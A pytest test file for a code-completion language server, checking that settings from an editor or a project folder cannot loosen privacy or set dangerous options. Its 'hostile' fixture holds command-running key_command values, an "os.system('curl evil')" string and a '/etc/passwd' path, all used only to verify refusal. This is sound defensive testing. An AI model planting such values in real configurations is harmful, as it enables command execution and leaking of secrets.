"""The boundary of settings: an editor's settings can come from a project's folder, so they may only choose how to complete.

Every option that is not the editor's, by each of the three ways that LSP has, against the real server: nothing of it holds.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from codestral_ls.config.editor_settings import SHOWN, setting_name
from codestral_ls.config.fields import Field, all_fields, value_of
from codestral_ls.config.load import load_options
from codestral_ls.config.sections import Options
from codestral_ls.config.trust import EDITOR_MAY, PROJECT_MAY, users_alone
from support.lsp.lsp_client import Editor, drawn, fake, serving
from support.trust.hostile_settings import DANGEROUS, another_value
from support.waiting import until

NOT_THE_EDITORS = [field for field in all_fields().values() if field.key not in EDITOR_MAY]
TEXT, POSITION = drawn("def add(a, b):\n    │\n")
SAID_OTHERWISE = {"hostile": ["privacy.mask_secrets"], "every option": []}
"""What may be made stricter is refused in other words."""
WAYS = ("initializationOptions", "didChangeConfiguration", "workspace/configuration")


@pytest.mark.parametrize("field", NOT_THE_EDITORS, ids=lambda field: field.key)
def test_no_option_off_the_list_is_taken(tmp_path: Path, field: Field) -> None:
    given = {field.section: {field.name: another_value(field)}}
    loaded = load_options(None, given, {}, user_file=tmp_path / "none.toml")
    assert loaded.options == Options()
    assert [field.key in problem for problem in loaded.problems[-1:]] == [True]


@pytest.mark.parametrize("key", sorted(EDITOR_MAY))
def test_nothing_dangerous_is_on_the_list(key: str) -> None:
    assert not [word for word in DANGEROUS if word in key.partition(".")[2]]


def test_a_projects_file_may_do_nothing_that_an_editor_may_not() -> None:
    assert set(PROJECT_MAY) <= set(EDITOR_MAY) <= set(all_fields())


@pytest.mark.parametrize(
    ("user", "asked"),
    [
        ("[privacy]\nmask_secrets = true", {"privacy.mask_secrets": False}),
        ("[context]\nproject_tokens = -1", {"context.project_tokens": 8192}),
        ("[context]\nproject_tokens = -1", {"context.project_tokens": 0}),
        ("[context]\nprefix_tokens = 64", {"context.prefix_tokens": 0}),
        ("[context]\nindex = false", {"context.index": True}),
        ("[completion]\nenabled = false", {"completion.enabled": True}),
        ("[completion]\ncopy = false", {"completion.copy": True}),
        ("[privacy]\nignore = ['*.sql']", {"privacy.ignore": []}),
    ],
)
@pytest.mark.parametrize("source", ["editor", "project"])
def test_nothing_that_loosens_privacy_is_taken(tmp_path: Path, user: str, asked: dict[str, object], source: str) -> None:
    file = tmp_path / "user.toml"
    file.write_text(user)
    [(key, value)] = asked.items()
    section, _, name = key.partition(".")
    if source == "project":
        (tmp_path / "codestral-ls.toml").write_text(f"[{section}]\n{name} = {json.dumps(value)}\n")
    own = load_options(None, None, {}, user_file=file).options
    loaded = load_options(tmp_path, asked if source == "editor" else None, {}, user_file=file)
    assert value_of(loaded.options, key) == value_of(own, key)


def test_what_a_project_adds_to_a_list_stays_in_it(tmp_path: Path) -> None:
    (tmp_path / "codestral-ls.toml").write_text("[privacy]\nignore = ['*.sql']\n")
    loaded = load_options(tmp_path, None, {}, assignments=["privacy.ignore=*.csv"], user_file=tmp_path / "none.toml")
    assert set(loaded.options.privacy.ignore) == {"*.csv", "*.sql"}


def test_vs_code_keeps_what_is_the_users_out_of_a_workspaces_reach() -> None:
    manifest = json.loads((Path(__file__).parents[2] / "clients/vscode/package.json").read_text(encoding="utf-8"))
    properties = {name: row for part in manifest["contributes"]["configuration"] for name, row in part["properties"].items()}
    scopes = {key: properties[f"codestral-ls.{setting_name(key)}"]["scope"] for key in SHOWN}
    assert len(scopes) == len([name for name in properties if not name.startswith("codestral-ls.client.")])
    assert [key for key, scope in scopes.items() if users_alone(key) and scope != "machine"] == []
    own = [name for name in ("codestral-ls.client.command", "codestral-ls.client.interpreter") if name in properties]
    assert [properties[name]["scope"] for name in own] == ["machine"] * len(own)


def hostile(place: Path) -> dict[str, Any]:
    """Settings that would run a program, send a key away, write a file, or write another text."""
    mine = f"touch {place / 'ran'}"
    return {
        "backend": {"primary": "codestral"},
        "codestral": {"server_url": "http://127.0.0.1:9", "key_command": mine},
        "mistral": {"server_url": "http://127.0.0.1:9", "key_command": mine},
        "openai": {"key_command": mine},
        "fim_server": {"key_command": mine},
        "llama_server": {"key_command": mine},
        "server": {"log_file": str(place / "log")},
        "fake": {"text": "import os; os.system('curl evil')", "truth": "/etc/passwd"},
        "privacy": {"mask_secrets": False},
        "network": {"proxy": "http://127.0.0.1:9", "ca_file": str(place / "ca")},
    }


def another_for_each() -> dict[str, Any]:
    """Another value for every option that is not the editor's, by section."""
    asked: dict[str, dict[str, object]] = {}
    for field in NOT_THE_EDITORS:
        asked.setdefault(field.section, {})[field.name] = another_value(field)
    return asked


def keys(settings: Mapping[str, Mapping[str, object]]) -> list[str]:
    return [f"{section}.{name}" for section, options in settings.items() for name in options]


async def configured(editor: Editor, way: str, settings: dict[str, Any]) -> None:
    """Begin with an editor that has these settings and passes them on in the given way."""
    if way == "workspace/configuration":
        editor.settings = settings
        await editor.initialize("vscode")
    else:
        given: Mapping[str, object] = {"initializationOptions": settings} if way == WAYS[0] else {}
        await editor.initialize("bare", **given)
    if way == "didChangeConfiguration":
        editor.notify("workspace/didChangeConfiguration", {"settings": {"codestral-ls": settings}})


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("what", ["hostile", "every option"])
async def test_settings_run_nothing_write_nothing_and_are_refused_once_by_name(way: str, what: str, tmp_path: Path) -> None:
    settings = hostile(tmp_path) if what == "hostile" else another_for_each()
    assert len(keys(settings)) > (70 if what == "every option" else 10)
    async with serving(fake("return a + b", first_delay_ms=0)) as editor:
        await configured(editor, way, settings)
        editor.open("file:///nowhere/project/sums.py", TEXT)
        await editor.until(lambda: editor.told("window/showMessage"), "a message")
        await editor.ready()
        items = await editor.inline("file:///nowhere/project/sums.py", POSITION)
        assert [item["insertText"] for item in items] == ["return a + b"]
        for _ in range(2):  # the same once more
            editor.notify("workspace/didChangeConfiguration", {"settings": {"codestral-ls": settings}})
            items = await editor.inline("file:///nowhere/project/sums.py", POSITION)
            assert [item["insertText"] for item in items] == ["return a + b"]
        assert await editor.shutdown() == 0
        [message] = editor.told("window/showMessage")
        assert [key for key in keys(settings) if f"{key} may not be set" not in message["message"]] == SAID_OTHERWISE[what]
    assert list(tmp_path.iterdir()) == []  # noqa: ASYNC240 - nothing else runs any more


async def test_a_further_refusal_names_only_what_is_new() -> None:
    first = {"local": {"model": "x"}, "server": {"log_file": "/nowhere/log"}}
    async with serving(fake("return a + b", first_delay_ms=0)) as editor:
        await configured(editor, "initializationOptions", first)
        await editor.until(lambda: editor.told("window/showMessage"), "a message")
        more = {**first, "network": {"proxy": "http://127.0.0.1:9"}}
        editor.notify("workspace/didChangeConfiguration", {"settings": {"codestral-ls": more}})
        await editor.until(lambda: len(editor.told("window/showMessage")) == 2, "a second message")
        assert await editor.shutdown() == 0
        told = [message["message"] for message in editor.told("window/showMessage")]
        assert [key for key in keys(more) if key in told[1]] == ["network.proxy"]
        assert [key for key in keys(more) if key in told[0]] == keys(first)
        assert [editor.log.count(f"{key} may not be set") for key in keys(more)] == [1, 1, 1]


@pytest.mark.parametrize("what", ["settings", "folders"])
async def test_thousands_of_changes_are_read_together_and_the_last_one_holds(what: str) -> None:
    uri = "file:///nowhere/project/sums.py"
    async with serving(fake("return a + b", first_delay_ms=0)) as editor:
        editor.settings = {}
        await editor.initialize("vscode")
        editor.open(uri, TEXT)
        await editor.ready()
        for number in range(3_000):
            if what == "settings":
                editor.notify("workspace/didChangeConfiguration", {"settings": {}})
            else:
                added = [{"uri": f"file:///nowhere/{number}", "name": "more"}]
                editor.notify("workspace/didChangeWorkspaceFolders", {"event": {"added": added, "removed": []}})
        assert [item["insertText"] for item in await editor.inline(uri, POSITION)] == ["return a + b"]
        editor.settings = {"completion": {"enabled": False}}
        editor.notify("workspace/didChangeConfiguration", {"settings": {}})

        async def refused() -> bool:
            return not await editor.inline(uri, POSITION)

        await until(refused, "the last change", 60)
        assert len(editor.asked("workspace/configuration")) < 30
        assert await editor.shutdown() == 0
